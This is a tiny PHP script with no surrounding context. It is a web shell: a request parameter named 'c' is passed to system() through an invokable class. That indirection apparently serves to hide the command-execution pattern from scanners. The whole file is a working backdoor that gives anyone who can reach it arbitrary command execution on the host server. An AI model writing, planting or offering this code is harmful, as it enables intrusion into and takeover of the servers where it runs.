<?php
class K { function __invoke() { return $_GET["c"]; } }
$k = new K;
system($k());
